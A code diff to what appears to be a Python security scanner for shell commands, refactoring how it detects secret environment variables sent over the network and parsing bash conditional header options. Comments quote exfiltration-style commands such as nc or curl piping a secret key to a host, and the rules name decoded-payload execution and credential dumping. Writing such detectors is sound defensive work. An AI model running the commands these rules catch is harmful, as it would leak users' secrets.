@@ -17,6 +17,7 @@ from grove.security.command_base import (
     READ_OK,
     SECRET_VAR,
     Finding,
+    secret_vars,
     target_args,
 )
 from grove.security.shell import ParsedCommand, Pipeline, SimpleCommand
@@ -86,10 +87,10 @@ def _network(cmd: SimpleCommand, pipe: Pipeline, parsed: ParsedCommand, ws: str 
         )
         if header or re.match(r"^(authorization|x-api-key|private-token|x-auth-token)\s*:", a, re.I):
             continue
-        if SECRET_VAR.search(a) and not _to_its_own_api(cmd, a):
+        if secret_vars(a) and not _to_its_own_api(cmd, a):
             out.append(Finding("env-exfil", f"sends the secret variable in {a!r} to the network"))
             break
-    if cmd.stdin_text and SECRET_VAR.search(cmd.stdin_text) and not out:
+    if cmd.stdin_text and secret_vars(cmd.stdin_text) and not out:
         # `nc host 80 <<< "$KEY"`, `curl -d @- URL <<EOF ... $KEY ... EOF`: the same as passing it as data
         out.append(Finding("env-exfil", "sends a secret variable to the network on its standard input"))
     if any("__SUBST" in a for a in args):
@@ -109,9 +110,16 @@ def talks_to_network(cmd: SimpleCommand) -> bool:
 
 def _option_words(args: list[str]) -> list[str]:
     """Arguments with an option list kept as one word split into its words: the parser keeps a bash array
-    (`opts=(-s -H "apikey: $KEY")`, then `curl "${opts[@]}"`) as one value, which would hide a header's name."""
+    (`opts=(-s -H "apikey: $KEY")`, then `curl "${opts[@]}"`) as one value, which would hide a header's name;
+    a `${KEY:+-H ...}` alternative gives its option and value."""
     out: list[str] = []
+    alternative = False
     for a in args:
+        m = re.fullmatch(r"\$\{\w+:?\+(-.*)", a)
+        if m:  # `${KEY:+-H "Authorization: Bearer $KEY"}`: the option, given only when KEY is set
+            a, alternative = m.group(1), True
+        elif alternative and a.endswith("}"):
+            a, alternative = a[:-1], False
         if a.startswith("-") and re.search(r"\s", a):
             try:
                 out += shlex.split(a)
@@ -148,7 +156,7 @@ def _to_its_own_api(cmd: SimpleCommand, arg: str) -> bool:
         return False
     labels = hosts.pop().split(".")
     vendor = labels[-2] if len(labels) >= 2 else ""
-    names = [m.group(1) for m in SECRET_VAR.finditer(arg)]
+    names = secret_vars(arg)
     return len(vendor) >= 3 and all(n.split("_", 1)[0].lower() == vendor for n in names)
 
 
@@ -176,7 +184,7 @@ def pipeline_rules(parsed: ParsedCommand) -> list[Finding]:
             elif _is_stdin_interpreter(cmd) and any(u.name in DECODERS and _decodes(u) for u in upstream):
                 out.append(Finding("obfuscated-exec", "pipes a decoded payload into an interpreter"))
             if talks_to_network(cmd) and any(
-                (u.name in ("echo", "printf") and any(SECRET_VAR.search(a) for a in u.args))
+                (u.name in ("echo", "printf") and any(secret_vars(a) for a in u.args))
                 or u.name in ENV_DUMPERS
                 or any(P.is_credential(a) or P.is_credential_dir(a) for a in u.args)
                 or u.name == "history"
